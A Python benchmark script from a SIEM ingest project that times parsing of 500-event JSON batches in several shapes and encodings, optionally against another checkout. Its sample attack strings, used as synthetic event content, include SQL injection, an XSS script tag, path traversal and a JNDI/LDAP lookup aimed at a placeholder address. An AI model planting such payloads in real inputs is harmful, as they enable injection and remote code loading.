"""`BatchParser.parse` on several payload shapes, this checkout against another, in one run.

    python bench/parse_shapes.py [--base DIR] [--rounds 200] [--bodies ingest] [--cpu]
    python bench/parse_shapes.py --bodies ingest --loop large --seconds 10   # for py-spy

`--base DIR`: a checkout of the commit to compare with (e.g. `git worktree add /tmp/base
HEAD` before a change); its `siemgate` is imported beside this one's under other module
objects, and both parse the same bodies, alternately, round after round (so that the
machine's load falls on both alike). Without it, only this checkout is measured.

Shapes, 500 events each (the sender's batch):
- `simulator`: `siemgate simulate`'s events, as orjson writes them (non-ASCII raw);
- `json.dumps`: attack samples (quotes, backslashes, line breaks, non-ASCII, emoji) written by
  Python's json.dumps: non-ASCII as \\uXXXX, surrogate pairs for emoji;
- `jackson`: the same written as Jackson with ESCAPE_NON_ASCII does (uppercase hex), and `<>&`
  escaped as Go's encoding/json does;
- `deep`: events nested 24 levels deep (objects and arrays);
- `large`: ~8 KB attack samples per event (~4 MB body);
- `mixed`: camelCase and snake_case vendor events with nested objects and arrays, the
  confirmation hint in some URLs (`/checkout/confirm`), wrapped as `{"meta":..., "alerts":[...]}`.

`--bodies ingest`: the bodies `bench/ingest.py --shapes` posts instead (`ingest_shapes`:
simulator, escaped, camelcase, tiny, large). `--cpu`: time in CPU seconds of this process
(`time.process_time`) instead of wall time, less disturbed by other processes on a shared
machine (coarser: use enough rounds). `--loop SHAPE --seconds N`: parse one body again and
again for N seconds, nothing printed: the in-process loop to profile, e.g.
`py-spy record -f raw -r 500 -o parse.txt -- python bench/parse_shapes.py --bodies ingest
--loop large --seconds 10`. `parse` is all of the ingest's per-batch CPU outside HTTP and
the bus: validation, the split into raw events, the prefilter, the records' envelopes.

Prints the p50 (and p90) per shape in ms, and the machine's load average.
"""

from __future__ import annotations

import argparse
import contextlib
import gc
import importlib
import json
import os
import random
import statistics
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

import orjson

_SAMPLES = (
    "' OR '1'='1' --",
    '<script>alert("x")</script>',
    "..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "admin'/*\n*/UNION SELECT password FROM users",
    "Ünïcödé ☃ 日本語 🔥 \u2028 tab\there",
    "${jndi:ldap://203.0.113.9/a}",
    "Ζεύς «ελληνικά» — ١٢٣ العربية ✓",
)


def _attack(rng: random.Random, i: int, size: int = 0) -> dict[str, Any]:
    sample = rng.choice(_SAMPLES)
    if size:
        sample = (sample + " ") * (size // (len(sample) + 1))
    return {
        "id": f"evt-{i:06d}-{rng.getrandbits(32):08x}",
        "severity": rng.choice(["high", "Critical", "medium", "low", "info"]),
        "type": rng.choice(["sql_injection", "xss", "path_traversal", "rce"]),
        "timestamp": "2026-12-07T10:00:00.123Z",
        "source_ip": f"203.0.113.{rng.randrange(256)}",
        "url": f"https://shop.example.com/search?q={rng.randrange(10**6)}",
        "method": "POST",
        "rule": {"id": str(942100 + rng.randrange(50)), "name": "SQL Injection Attack Detected via libinjection"},
        "request": {"headers": {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) \"quoted\"",
                                "Accept-Language": "de-CH, fr;q=0.8, 日本語"},
                    "body": sample, "args": [sample[:40], "café", "\\x00"]},
        "action": "blocked",
        "message": f"Blocked: {sample[:60]}",
    }


def _deep(rng: random.Random, i: int) -> dict[str, Any]:
    event = _attack(rng, i)
    node: dict[str, Any] = {"leaf": "naïve \"x\"", "n": i}
    for level in range(24):
        node = {f"level{level}": node, "list": [level, {"k": "v"}]} if level % 2 else {"wrap": [node]}
    event["context"] = node
    return event


def _mixed(rng: random.Random, i: int) -> dict[str, Any]:
    return {
        "alertId": f"a-{i}-{rng.getrandbits(24):06x}",
        "eventType": "WebAttack",
        "Severity": rng.choice(["HIGH", "Medium", "low"]),
        "detectedAt": "2026-12-07T10:00:00Z",
        "sourceAddress": {"ip": f"198.51.100.{rng.randrange(256)}", "geo": {"countryCode": "CH", "city": "Zürich"}},
        "httpRequest": {"requestUri": rng.choice(["/checkout/confirm", "/login", "/api/v2/items?id=1"]),
                        "httpMethod": "GET", "queryParams": [{"name": "id", "value": "1 OR 1=1"}]},
        "matched_rules": [{"rule_id": 941100 + k, "ruleName": "XSS Filter", "tags": ["owasp", "crs"]}
                          for k in range(3)],
        "assetName": "shop-frontend",
        "extra_info": {"snake_case": True, "camelCase": None, "nested": {"deeper": [1, 2.5, "x"]}},
    }


def _jackson(text: str) -> str:
    """json.dumps output as Jackson (ESCAPE_NON_ASCII: uppercase hex) and Go (<>&) write it."""
    out = []
    i = 0
    while i < len(text):
        if text.startswith("\\u", i):
            out.append("\\u" + text[i + 2 : i + 6].upper())
            i += 6
        elif text.startswith("\\\\", i):
            out.append("\\\\")
            i += 2
        else:
            character = text[i]
            out.append({"<": "\\u003c", ">": "\\u003e", "&": "\\u0026"}.get(character, character))
            i += 1
    return "".join(out)


def shapes(seed: int = 17) -> dict[str, bytes]:
    from siemgate.simulate import make_events

    rng = random.Random(seed)
    attacks = [_attack(rng, i) for i in range(500)]
    return {
        "simulator": orjson.dumps(make_events(500, seed=seed)),
        "json.dumps": json.dumps(attacks).encode(),
        "jackson": _jackson(json.dumps(attacks, separators=(",", ":"))).encode(),
        "deep": json.dumps([_deep(rng, i) for i in range(500)]).encode(),
        "large": json.dumps([_attack(rng, i, 8000) for i in range(500)]).encode(),
        "mixed": orjson.dumps({"meta": {"count": 500, "vendor": "Acme"},
                               "alerts": [_mixed(rng, i) for i in range(500)]}),
    }


def _long_attack(rng: random.Random, i: int, size: int = 8000) -> dict[str, Any]:
    """An attack sample event of about `size` bytes as json.dumps writes it (escapes included)."""
    event = _attack(rng, i)
    sample = event["request"]["body"]
    escaped = len(json.dumps(sample)) - 2
    event["request"]["body"] = (sample + " ") * max(1, (size - len(json.dumps(event)) + escaped) // (escaped + 1))
    return event


def ingest_shapes(seed: int = 17) -> dict[str, bytes]:
    """The bodies `bench/ingest.py --shapes` posts, 500 events each (the sender's batch):
    `simulator` (siemgate simulate's events, orjson), `escaped` (attack samples by json.dumps:
    non-ASCII as \\uXXXX, quotes, backslashes), `camelcase` (vendor events, nested objects and
    arrays, wrapped), `tiny` (the smallest events a sender posts), `large` (~8 KB attack
    samples: a ~4 MB body)."""
    from siemgate.simulate import make_batch_body, make_events

    rng = random.Random(seed)
    return {
        "simulator": make_batch_body(make_events(500, "high=1,medium=3,low=6", seed)),
        "escaped": json.dumps([_attack(rng, i) for i in range(500)]).encode(),
        "camelcase": orjson.dumps({"meta": {"count": 500, "vendor": "Acme"},
                                   "alerts": [_mixed(rng, i) for i in range(500)]}),
        "tiny": json.dumps([{"id": f"t{i}", "severity": "low", "n": i} for i in range(500)]).encode(),
        "large": json.dumps([_long_attack(rng, i) for i in range(500)]).encode(),
    }


@contextlib.contextmanager
def other_siemgate(root: str) -> Iterator[Callable[[str], Any]]:
    """Import the `siemgate` under `root` beside this one: yields `import_module` for its
    modules (checked to come from `root`); this one's modules are back afterwards."""
    def is_ours(name: str) -> bool:
        return name == "siemgate" or name.startswith("siemgate.")

    saved = {name: module for name, module in sys.modules.items() if is_ours(name)}
    for name in saved:
        del sys.modules[name]
    sys.path.insert(0, root)

    def load(name: str) -> Any:
        module = importlib.import_module(name)
        assert os.path.realpath(module.__file__ or "").startswith(os.path.realpath(root)), module.__file__
        return module

    try:
        yield load
    finally:
        sys.path.remove(root)
        for name in [n for n in sys.modules if is_ours(n)]:
            del sys.modules[name]
        sys.modules.update(saved)


def _parser(root: str | None) -> Any:
    """A BatchParser of the `siemgate` under `root` (None: this one), built while that one's
    modules are those imported (its config loader imports on use)."""
    if root is None:
        from siemgate.config import parse_config
        from siemgate.ingest.batch import BatchParser
        return BatchParser(parse_config(_CONFIG, {}).integrations[0], "p")
    with other_siemgate(root) as load:
        config, batch = load("siemgate.config"), load("siemgate.ingest.batch")
        return batch.BatchParser(config.parse_config(_CONFIG, {}).integrations[0], "p")


_CONFIG = "integrations: [{name: appsec, auth: {header: X-K, values: [vvvv]}}]"


def main() -> None:
    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    options.add_argument("--base", metavar="DIR", help="a checkout of the commit to compare with")
    options.add_argument("--rounds", type=int, default=200)
    options.add_argument("--bodies", choices=("parse", "ingest"), default="parse",
                         help="parse: this file's shapes (default); ingest: bench/ingest.py --shapes's")
    options.add_argument("--cpu", action="store_true", help="CPU time of this process instead of wall time")
    options.add_argument("--loop", metavar="SHAPE", help="parse SHAPE for --seconds, print nothing (to profile)")
    options.add_argument("--seconds", type=float, default=10.0)
    args = options.parse_args()
    new = _parser(None)
    bodies = shapes() if args.bodies == "parse" else ingest_shapes()
    from siemgate.gc_tuning import tune_gc

    tune_gc()  # as `siemgate ingest` does after startup
    if args.loop is not None:
        body = bodies[args.loop]
        deadline = time.monotonic() + args.seconds
        while time.monotonic() < deadline:
            new.parse(body, peer="x", max_events=10_000)
        return
    parsers = {"new": new} if args.base is None else {"old": _parser(args.base), "new": new}
    clock = time.process_time if args.cpu else time.perf_counter
    print(f"load average before: {' '.join(f'{x:.2f}' for x in os.getloadavg())}; cpus: {os.cpu_count()}")
    print(f"{'shape':<12}{'KB':>7}  " + "  ".join(f"{name + ' p50':>9}{name + ' p90':>9}" for name in parsers))
    for shape, body in bodies.items():
        times: dict[str, list[float]] = {name: [] for name in parsers}
        for parser in parsers.values():  # warm up (memos, caches)
            assert len(parser.parse(body, peer="x", max_events=10_000).records) == 500
        gc.collect()
        for _ in range(args.rounds):
            for name, parser in parsers.items():
                started = clock()
                parser.parse(body, peer="x", max_events=10_000)
                times[name].append(clock() - started)
        cells = []
        for name in parsers:
            ordered = sorted(times[name])
            cells.append(f"{statistics.median(ordered) * 1000:>9.2f}{ordered[int(len(ordered) * 0.9)] * 1000:>9.2f}")
        print(f"{shape:<12}{len(body) / 1024:>7.0f}  " + "  ".join(cells))
    print(f"load average after: {' '.join(f'{x:.2f}' for x in os.getloadavg())}")


if __name__ == "__main__":
    main()
